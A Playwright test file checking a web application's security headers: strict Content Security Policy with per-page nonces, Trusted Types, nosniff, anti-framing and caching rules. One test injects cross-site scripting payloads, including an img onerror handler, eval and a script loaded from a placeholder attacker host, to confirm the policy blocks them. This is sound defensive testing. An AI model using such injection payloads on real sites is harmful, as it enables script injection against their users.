import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures.ts';
import { signInAs } from '../sign-in.ts';

const directive = (policy: string, name: string): string[] =>
  (
    policy
      .split(';')
      .map((one) => one.trim().split(/\s+/))
      .find(([first]) => first === name) ?? []
  ).slice(1);

async function policyOf(page: Page, path: string): Promise<string> {
  const answer = await page.request.get(path, { headers: { Accept: 'text/html' } });
  return answer.headers()['content-security-policy'] ?? '';
}

test('every page of the shell carries a strict policy with a nonce of its own', async ({ page }) => {
  const nonces = new Set<string>();
  for (const path of ['/', '/stores/stores', '/signed-out', '/signin/callback', '/nowhere']) {
    const policy = await policyOf(page, path);
    const scripts = directive(policy, 'script-src');
    const styles = directive(policy, 'style-src');
    expect(directive(policy, 'default-src'), path).toEqual(["'none'"]);
    expect(
      [...scripts, ...styles].filter((one) => /unsafe|\*|data:|https?:/.test(one)),
      path,
    ).toEqual([]);
    expect(directive(policy, 'object-src')).toEqual(["'none'"]);
    expect(directive(policy, 'base-uri')).toEqual(["'none'"]);
    expect(directive(policy, 'frame-ancestors')).toEqual(["'none'"]);
    expect(directive(policy, 'require-trusted-types-for')).toEqual(["'script'"]);
    for (const nonce of scripts.filter((one) => one.startsWith("'nonce-"))) nonces.add(nonce);
  }
  expect(nonces.size).toBe(5);
});

test('what somebody smuggles into a page does not run', async ({ page, expectTrouble }) => {
  expectTrouble(/Content Security Policy|CSP violation|Trusted Type|TrustedHTML|TrustedScript/i);
  await signInAs(page, 'heping', '/stores/stores');
  await expect(page.getByRole('table')).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const ran = globalThis as { smuggled?: string };
    const tried: Record<string, string> = {};
    const attempt = (what: string, run: () => unknown) => {
      try {
        run();
        tried[what] = 'not thrown';
      } catch (error) {
        tried[what] = error instanceof Error ? error.name : 'thrown';
      }
    };
    const smuggle = () => {
      attempt('inline script', () => {
        const script = document.createElement('script');
        script.append('globalThis.smuggled = "inline script"');
        document.body.append(script);
      });
      attempt('innerHTML', () => {
        document.createElement('div').innerHTML = '<img src=x onerror="globalThis.smuggled = `handler`">';
      });
      attempt('script from elsewhere', () => {
        const script = document.createElement('script');
        script.src = 'https://evil.example/x.js';
        document.body.append(script);
      });
      // oxlint-disable-next-line no-eval -- the point is that the page's policy refuses it
      attempt('eval', () => (0, eval)('globalThis.smuggled = "eval"'));
      attempt('handler attribute', () => {
        const image = document.createElement('img');
        image.setAttribute('onerror', 'globalThis.smuggled = "attribute"');
        image.src = 'data:,x';
        document.body.append(image);
      });
    };
    // From a task of the page itself: what the test's own evaluation calls is excused from the policy.
    await new Promise<void>((resolve) => setTimeout(() => (smuggle(), resolve())));
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
    return { smuggled: ran.smuggled ?? null, tried };
  });
  expect(outcome.smuggled).toBeNull();
  expect(outcome.tried).toMatchObject({
    innerHTML: 'TypeError',
    'script from elsewhere': 'TypeError',
    eval: expect.stringMatching(/EvalError|TypeError/) as unknown,
  });
});

test('no page may be framed, and no file is guessed to be something else', async ({ page, request }) => {
  for (const path of ['/', '/api/portal/bootstrap', '/sso/.well-known/openid-configuration']) {
    const headers = (await request.get(path, { headers: { Accept: 'text/html' } })).headers();
    expect(headers['x-content-type-options'], path).toBe('nosniff');
  }
  expect(await policyOf(page, '/')).toContain("frame-ancestors 'none'");
});

test('the HTML is never kept, files with a hash are kept for ever', async ({ page, request }) => {
  const files: string[] = [];
  page.on('request', (one) => files.push(one.url()));
  await signInAs(page, 'heping', '/stores/stores');
  await expect(page.getByRole('table')).toBeVisible();
  const html = await request.get('/', { headers: { Accept: 'text/html' } });
  expect(html.headers()['cache-control']).toContain('no-store');
  const kept = files.filter((url) => /\/(?:assets|remotes)\//.test(url));
  expect(kept.length).toBeGreaterThan(5);
  for (const url of new Set(kept)) {
    const headers = (await request.get(url, { headers: { 'Accept-Encoding': 'br' } })).headers();
    expect(headers['cache-control'], url).toContain('immutable');
    expect(headers['content-encoding'], url).toBe('br');
  }
});
